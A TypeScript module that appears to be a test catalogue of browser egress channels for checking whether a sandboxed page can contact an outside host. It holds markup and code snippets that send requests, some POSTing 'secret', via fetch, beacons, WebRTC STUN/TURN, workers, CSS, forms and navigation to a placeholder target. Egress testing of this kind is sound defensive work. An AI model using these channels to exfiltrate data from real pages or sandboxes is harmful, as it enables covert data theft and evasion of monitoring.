/** Every way known to us by which a page could tell somebody outside something. Each has a host and an address of its own. */

export interface Target {
  /** A name that nobody else asks for, so that a leak says which attempt it was. */
  readonly host: string;
  readonly url: string;
  /** An address that nobody else uses, for attempts that need no name. */
  readonly ip: string;
}

/** Markup that is put into the page; `URL`, `HOST` stand for the target's. */
const markup: Readonly<Record<string, string>> = {
  img: '<img src="URL">',
  'img srcset': '<img srcset="URL 1x, URL 2x">',
  'picture source': '<picture><source srcset="URL"><img></picture>',
  'image button': '<input type="image" src="URL">',
  'css background': '<div style="background: url(URL); width: 9px; height: 9px">x</div>',
  'css image-set': '<div style="background: image-set(url(URL) 1x); width: 9px; height: 9px">x</div>',
  'css content': '<style>#leak-content::before { content: url(URL) }</style><p id="leak-content">x</p>',
  'css cursor': '<div style="cursor: url(URL), auto">x</div>',
  'css mask': '<div style="-webkit-mask: url(URL); width: 9px; height: 9px">x</div>',
  'css list-style': '<ul style="list-style-image: url(URL)"><li>x</li></ul>',
  'css @import': '<style>@import url(URL);</style>',
  'css @font-face':
    '<style>@font-face { font-family: leak; src: url(URL) }</style><p style="font-family: leak">leaking</p>',
  'background attribute': '<table background="URL"><tbody><tr><td>x</td></tr></tbody></table>',
  'link stylesheet': '<link rel="stylesheet" href="URL">',
  'link prefetch': '<link rel="prefetch" href="URL">',
  'link preload': '<link rel="preload" as="fetch" href="URL" crossorigin>',
  'link preload imagesrcset': '<link rel="preload" as="image" imagesrcset="URL 1x">',
  'link dns-prefetch': '<link rel="dns-prefetch" href="//HOST">',
  'link preconnect': '<link rel="preconnect" href="http://HOST">',
  'link modulepreload': '<link rel="modulepreload" href="URL">',
  'link prerender': '<link rel="prerender" href="URL">',
  'link icon': '<link rel="icon" href="URL">',
  'link manifest': '<link rel="manifest" href="URL" crossorigin>',
  iframe: '<iframe src="URL"></iframe>',
  'iframe srcdoc': '<iframe srcdoc="<img src=URL><link rel=dns-prefetch href=//HOST>"></iframe>',
  object: '<object data="URL" type="text/html"></object>',
  'object image': '<object data="URL" type="image/png"></object>',
  embed: '<embed src="URL" type="text/html">',
  audio: '<audio src="URL" preload="auto"></audio>',
  video: '<video src="URL" preload="auto"></video>',
  'video poster': '<video poster="URL"></video>',
  'media source': '<video preload="auto"><source src="URL" type="video/mp4"></video>',
  'svg image': '<svg width="9" height="9"><image href="URL" width="9" height="9" /></svg>',
  'svg use': '<svg width="9" height="9"><use href="URL#x" /></svg>',
  'svg feImage':
    '<svg width="9" height="9"><filter id="leak-f"><feImage href="URL" /></filter><rect width="9" height="9" filter="url(#leak-f)" /></svg>',
  'css filter url': '<div style="filter: url(URL#f); width: 9px; height: 9px">x</div>',
  'base and relative': '<base href="http://HOST/"><img src="relative.png">',
  'img attributionsrc': '<img attributionsrc="URL">',
  fencedframe: '<fencedframe src="URL"></fencedframe>',
};

const insert = (html: string): void => {
  const place = document.createElement('div');
  document.body.append(place);
  place.innerHTML = html;
};

/** Code that runs in the page. Each function stands alone: it is sent there as text. */
const code: Readonly<Record<string, (target: Target) => unknown>> = {
  fetch: ({ url }) => fetch(url),
  'fetch no-cors': ({ url }) => fetch(url, { mode: 'no-cors', method: 'POST', body: 'secret' }),
  'fetch keepalive': ({ url }) => fetch(url, { keepalive: true, method: 'POST', body: 'secret' }),
  fetchLater: ({ url }) =>
    (Reflect.get(globalThis, 'fetchLater') as (u: string, o: object) => void)(url, { activateAfter: 0 }),
  XMLHttpRequest: ({ url }) => {
    const request = new XMLHttpRequest();
    request.open('GET', url);
    request.send();
  },
  sendBeacon: ({ url }) => navigator.sendBeacon(url, 'secret'),
  WebSocket: ({ host }) => void new WebSocket(`ws://${host}/`),
  EventSource: ({ url }) => void new EventSource(url),
  WebTransport: ({ host }) =>
    void new (Reflect.get(globalThis, 'WebTransport') as new (u: string) => object)(`https://${host}/`),
  script: ({ url }) => document.body.append(Object.assign(document.createElement('script'), { src: url })),
  'script module': ({ url }) =>
    document.body.append(Object.assign(document.createElement('script'), { src: url, type: 'module' })),
  'import()': ({ url }) => import(/* @vite-ignore */ url),
  'speculation rules': ({ url }) => {
    const text = JSON.stringify({
      prefetch: [{ source: 'list', urls: [url] }],
      prerender: [{ source: 'list', urls: [url] }],
    });
    document.body.append(Object.assign(document.createElement('script'), { type: 'speculationrules', text }));
  },
  FontFace: ({ url }) => new FontFace('leak-face', `url(${url})`).load(),
  'new Image': ({ url }) => void (new Image().src = url),
  track: ({ url }) => {
    const video = Object.assign(document.createElement('video'), { crossOrigin: 'anonymous' });
    const track = Object.assign(document.createElement('track'), { src: url, kind: 'subtitles', default: true });
    video.append(track);
    document.body.append(video);
    track.track.mode = 'showing';
  },
  'RTCPeerConnection STUN by name': async ({ host }) => {
    const rtc = new RTCPeerConnection({ iceServers: [{ urls: `stun:${host}:3478` }] });
    rtc.createDataChannel('leak');
    await rtc.setLocalDescription(await rtc.createOffer());
  },
  'RTCPeerConnection STUN by address': async ({ ip }) => {
    const rtc = new RTCPeerConnection({ iceServers: [{ urls: `stun:${ip}:3478` }] });
    rtc.createDataChannel('leak');
    await rtc.setLocalDescription(await rtc.createOffer());
  },
  'RTCPeerConnection TURN': async ({ ip }) => {
    const server = { urls: `turn:${ip}:3478?transport=tcp`, username: 'secret', credential: 'x' };
    const rtc = new RTCPeerConnection({ iceServers: [server] });
    rtc.createDataChannel('leak');
    await rtc.setLocalDescription(await rtc.createOffer());
  },
  'RTCPeerConnection of an empty frame': async ({ ip }) => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    const Rtc = Reflect.get(frame.contentWindow ?? {}, 'RTCPeerConnection') as typeof RTCPeerConnection;
    const rtc = new Rtc({
      iceServers: [{ urls: [`stun:${ip}:3478`, `turn:${ip}:3478?transport=tcp`], username: 'u', credential: 'x' }],
    });
    rtc.createDataChannel('leak');
    await rtc.setLocalDescription(await rtc.createOffer());
  },
  'fetch of an empty frame': ({ url }) => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    return frame.contentWindow?.fetch(url);
  },
  'WebTransport of an empty frame': ({ ip }) => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    const Transport = Reflect.get(frame.contentWindow ?? {}, 'WebTransport') as new (u: string) => object;
    void new Transport(`https://${ip}/`);
  },
  worker: ({ url }) => void new Worker(url),
  'worker importScripts': ({ url }) => {
    const text = `importScripts(${JSON.stringify(url)})`;
    void new Worker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })));
  },
  'worker WebTransport': ({ ip }) => {
    const text = `new WebTransport('https://${ip}/'); fetch('http://${ip}/')`;
    void new Worker(`data:text/javascript,${encodeURIComponent(text)}`);
  },
  SharedWorker: ({ url }) => void new SharedWorker(url),
  'service worker': ({ url }) => navigator.serviceWorker.register(url),
  'paint worklet': ({ url }) =>
    (Reflect.get(CSS, 'paintWorklet') as { addModule: (u: string) => Promise<void> }).addModule(url),
  'audio worklet': ({ url }) => new AudioContext().audioWorklet.addModule(url),
  Notification: ({ url }) => void new Notification('leak', { icon: url, body: 'x' }),
  'media session artwork': ({ url }) => {
    navigator.mediaSession.metadata = new MediaMetadata({ title: 'x', artwork: [{ src: url, sizes: '96x96' }] });
  },
  'payment request': ({ host }) =>
    new PaymentRequest([{ supportedMethods: `https://${host}/pay` }], {
      total: { label: 'x', amount: { currency: 'USD', value: '1' } },
    }).canMakePayment(),
  'federated credential': ({ url }) =>
    navigator.credentials.get({
      identity: { providers: [{ configURL: url, clientId: 'x' }] },
    } as CredentialRequestOptions),
  'XSLT document()': ({ url }) => {
    const sheet = `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:copy-of select="document('${url}')"/></xsl:template></xsl:stylesheet>`;
    const parser = new DOMParser();
    const processor = new XSLTProcessor();
    processor.importStylesheet(parser.parseFromString(sheet, 'text/xml'));
    processor.transformToDocument(parser.parseFromString('<a/>', 'text/xml'));
  },
  'csp report by meta': ({ url }) => {
    const csp = Object.assign(document.createElement('meta'), {
      httpEquiv: 'Content-Security-Policy',
      content: `img-src 'none'; report-uri ${url}`,
    });
    document.head.append(csp);
    void (new Image().src = url);
  },
  'a ping': ({ url }) => {
    const link = Object.assign(document.createElement('a'), { href: '#', ping: url });
    document.body.append(link);
    link.click();
  },
  'a download': ({ url }) => {
    const link = Object.assign(document.createElement('a'), { href: url, download: 'secret.txt' });
    document.body.append(link);
    link.click();
  },
  'window.open': ({ url }) => void window.open(url),
  'a target=_blank': ({ url }) => {
    const link = Object.assign(document.createElement('a'), { href: url, target: '_blank' });
    document.body.append(link);
    link.click();
  },
  'form POST into a frame': ({ url }) => {
    const frame = Object.assign(document.createElement('iframe'), { name: 'leak-frame' });
    const form = Object.assign(document.createElement('form'), { action: url, method: 'post', target: 'leak-frame' });
    document.body.append(frame, form);
    form.submit();
  },
  'frame navigated later': ({ url }) => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    if (frame.contentWindow) frame.contentWindow.location.href = url;
  },
  'form submit': ({ url }) => {
    const form = Object.assign(document.createElement('form'), { action: url });
    document.body.append(form);
    form.submit();
  },
  'a click': ({ url }) => {
    const link = Object.assign(document.createElement('a'), { href: url });
    document.body.append(link);
    link.click();
  },
  'meta refresh': ({ url }) => {
    document.head.append(
      Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=${url}` }),
    );
  },
  'location.href': ({ url }) => void (window.location.href = url),
  'location.replace': ({ url }) => window.location.replace(url),
};

export type PageAttempt =
  | { readonly name: string; readonly html: string }
  | { readonly name: string; readonly run: (target: Target) => unknown };

/** All attempts; those that would take the page away come last. */
export const pageAttempts: readonly PageAttempt[] = [
  ...Object.entries(markup).map(([name, html]) => ({ name, html })),
  ...Object.entries(code).map(([name, run]) => ({ name, run })),
];

/** Runs in the page: puts the markup in. */
export const insertMarkup = insert;

/** The markup of an attempt for one target. */
export const markupFor = (html: string, { url, host }: Target): string =>
  html.replaceAll('URL', url).replaceAll('HOST', host);
